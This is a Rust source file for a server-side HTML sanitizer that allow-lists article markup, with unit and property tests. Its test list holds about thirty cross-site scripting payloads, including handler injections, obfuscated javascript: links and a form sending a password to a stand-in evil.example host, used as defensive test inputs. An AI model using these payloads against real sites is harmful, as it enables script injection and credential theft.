//! Which HTML an article may hold: an allow-list, applied on the server when a text is stored.
//!
//! Everything else is dropped, scripts and styles with their content. No attribute can carry code:
//! links keep `href` with three schemes, tables keep their spans, and that is all. Cleaning what is
//! clean changes nothing. Deliberately absent: images, styles and classes; the reader's page decides how an article looks.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from([
            "p",
            "br",
            "hr",
            "strong",
            "em",
            "b",
            "i",
            "u",
            "s",
            "sub",
            "sup",
            "mark",
            "code",
            "blockquote",
            "ul",
            "ol",
            "li",
            "h2",
            "h3",
            "h4",
            "a",
            "table",
            "caption",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ]))
        .clean_content_tags(HashSet::from(["script", "style"]))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href"])),
            ("th", HashSet::from(["colspan", "rowspan"])),
            ("td", HashSet::from(["colspan", "rowspan"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(["https", "tel", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true);
    builder
});

static STRIPPER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder.clean_content_tags(HashSet::from(["script", "style"]));
    builder
});

/// The harmless part of `html`.
pub fn clean_html(html: &str) -> String {
    CLEANER.clean(html).to_string()
}

/// The words of `html` without any markup, for search.
pub(crate) fn plain_text(html: &str) -> String {
    // A tag ends a word, although nothing stands between the letters.
    let spaced = html.replace('<', " <");
    let text = STRIPPER.clean(&spaced).to_string();
    text.replace("&nbsp;", " ").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Hostile texts seen in the wild (T13): none may leave anything a browser would run.
    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle></svg>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\" style=\"x\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=evil.swf></object><embed src=evil.swf>",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<p>\u{0}<scr\u{0}ipt>alert(1)</script>",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<a href=\"https://ok.example\" target=_blank rel=opener>x</a>",
        "<<script>script>alert(1)<</script>/script>",
    ];

    /// Markup that is left, outside of text.
    fn tags(html: &str) -> Vec<String> {
        html.split('<').skip(1).filter_map(|rest| rest.split_once('>')).map(|(tag, _)| tag.to_lowercase()).collect()
    }

    fn is_inert(html: &str) -> bool {
        const NAMES: [&str; 28] = [
            "p",
            "br",
            "hr",
            "strong",
            "em",
            "b",
            "i",
            "u",
            "s",
            "sub",
            "sup",
            "mark",
            "code",
            "blockquote",
            "ul",
            "ol",
            "li",
            "h2",
            "h3",
            "h4",
            "a",
            "table",
            "caption",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ];
        tags(html).iter().all(|tag| {
            let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default();
            let attributes = tag.split_whitespace().skip(1).collect::<Vec<_>>().join(" ");
            let harmless = attributes.is_empty()
                || attributes.starts_with("href=\"https://")
                || attributes.starts_with("href=\"tel:")
                || attributes.starts_with("href=\"mailto:")
                || attributes.starts_with("rel=\"noopener noreferrer\"")
                || attributes.starts_with("colspan=")
                || attributes.starts_with("rowspan=")
                || attributes.starts_with("start=");
            NAMES.contains(&name) && harmless && !attributes.contains(" on") && !attributes.contains("script:")
        })
    }

    #[test]
    fn hostile_html_is_stored_inert() {
        for text in HOSTILE {
            let clean = clean_html(text);
            assert!(is_inert(&clean), "{text} became {clean}");
            assert_eq!(clean_html(&clean), clean, "{text} is not cleaned in one pass");
        }
    }

    #[test]
    fn what_editors_write_stays() {
        let text = "<h2>办理</h2><p>带<strong>证件</strong></p><ul><li>一</li></ul><table><tbody><tr><td colspan=\"2\">费用</td></tr></tbody></table>";
        assert_eq!(clean_html(text), text);
        assert_eq!(
            clean_html("<a href=\"https://bank.example/a\">网点</a>"),
            "<a href=\"https://bank.example/a\" rel=\"noopener noreferrer\">网点</a>"
        );
        assert_eq!(
            plain_text("<p>甲</p><p>乙 &amp; 丙</p><script>x</script>").split_whitespace().collect::<Vec<_>>(),
            ["甲", "乙", "&", "丙"]
        );
    }

    proptest! {
        #[test]
        fn cleaning_settles_at_once(parts in proptest::collection::vec(0..HOSTILE.len(), 1..6), glue in "[<>/\"' a-z]{0,6}") {
            let text = parts.iter().map(|index| HOSTILE[*index]).collect::<Vec<_>>().join(&glue);
            let clean = clean_html(&text);
            prop_assert!(is_inert(&clean), "{} became {}", text, clean);
        }
    }
}
